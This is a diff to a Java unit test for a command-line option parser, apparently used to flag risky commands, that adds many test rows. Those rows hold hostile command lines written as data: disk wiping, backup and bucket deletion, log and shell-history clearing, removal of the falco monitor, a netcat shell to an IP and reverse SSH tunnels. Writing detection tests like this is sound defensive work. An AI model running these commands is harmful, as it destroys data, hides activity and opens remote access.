@@ -9,7 +9,7 @@ import org.junit.jupiter.params.provider.CsvSource;
 
 class OptionsTest {
   private static Options of(String program, String... arguments) {
-    return Options.of(program, List.of(arguments));
+    return Options.of(UsualName.of(program), List.of(arguments));
   }
 
   @ParameterizedTest
@@ -42,13 +42,42 @@ class OptionsTest {
         "sudo   | -E bash -c x                | -c            | false",
         "nsenter| -m/proc/1/ns/mnt -- ls      | --mount       | true",
         "iptables | -w -t nat -F OUTPUT       | --flush       | true",
-        "python3.11 | -c pass                 | -c            | true",
+        "python3.11 | -c pass                | -c            | true",
+        "wipefs | -fa /dev/sdb                | --all         | true",
+        "mkfs.ext4 | -L -F /dev/sdb           | -F            | false",
+        "mkfs.xfs | -f /dev/sdb               | -f            | true",
+        "mkfs.btrfs | --force /dev/sdb        | -f            | true",
+        "blkdiscard | -f -o 0 /dev/sdb        | --force       | true",
+        "sgdisk | -Z /dev/sdb                 | --zap-all     | true",
+        "parted | -s /dev/sdb mklabel gpt     | --script      | true",
+        "restic | forget --keep-last 0        | --keep-last   | true",
+        "restic | forget --tag --prune        | --prune       | false",
+        "velero | backup delete --all         | --all         | true",
+        "aws    | s3 rm s3://b --recursive    | --recursive   | true",
+        "gpasswd | -a x wheel                 | --add         | true",
+        "chpasswd | -e                        | --encrypted   | true",
+        "journalctl | --rotate --vacuum-time=1s | --vacuum-time | true",
+        "apt-get | -qqy install nmap          | --yes         | true",
+        "dpkg   | -i x.deb                    | --install     | true",
+        "rpm    | -Uvh x.rpm                  | --upgrade     | true",
+        "yum    | -y remove falco             | --assumeyes   | true",
+        "apk    | add -t x nmap               | --virtual     | true",
+        "pip3   | install -t x y              | --target      | true",
+        "perl   | -le print                   | -e            | true",
+        "perl   | -0777ne print               | -e            | true",
+        "perl   | -l012pe print               | -p            | true",
+        "bash   | +o history -c x             | -c            | true",
+        "autossh | -M 0 -R 1:h:2 x            | -R            | true",
+        "plink  | -ssh -R 1:h:2 x             | -R            | true",
+        "docker | rm -f x                     | --force       | true",
+        "docker-compose | -f x.yaml up -d     | --detach      | true",
+        "kmod   | --version                   | -V            | true",
         "unheard-of | -xvf a                  | -v            | true",
         "unheard-of | --quiet                 | --quiet       | true",
       })
   void optionIsFoundInEachSpelling(
       String program, String arguments, String option, boolean expected) {
-    Options options = Options.of(program, List.of(arguments.split(" ")));
+    Options options = Options.of(UsualName.of(program), List.of(arguments.split(" ")));
 
     assertThat(options.has(option)).isEqualTo(expected);
   }
@@ -64,7 +93,7 @@ class OptionsTest {
         "wget   | -qO- https://x          | -O             | -",
         "wget   | --output-doc=a https://x| -O             | a",
         "perl   | -esystem(1)             | -e             | system(1)",
-        "python3| -cimport                | -c             | import",
+        "python| -cimport                | -c             | import",
         "node   | --eval x                | -e             | x",
         "nc     | -e/bin/sh 1.2.3.4 4     | --exec         | /bin/sh",
         "ssh    | -N -oRemoteForward=1 h  | -o             | RemoteForward=1",
@@ -72,7 +101,7 @@ class OptionsTest {
         "unheard-of | -o x                | -o             | x",
       })
   void valueIsFoundInEachForm(String program, String arguments, String option, String value) {
-    Options options = Options.of(program, List.of(arguments.split(" ")));
+    Options options = Options.of(UsualName.of(program), List.of(arguments.split(" ")));
 
     assertThat(options.value(option)).isEqualTo(value);
   }
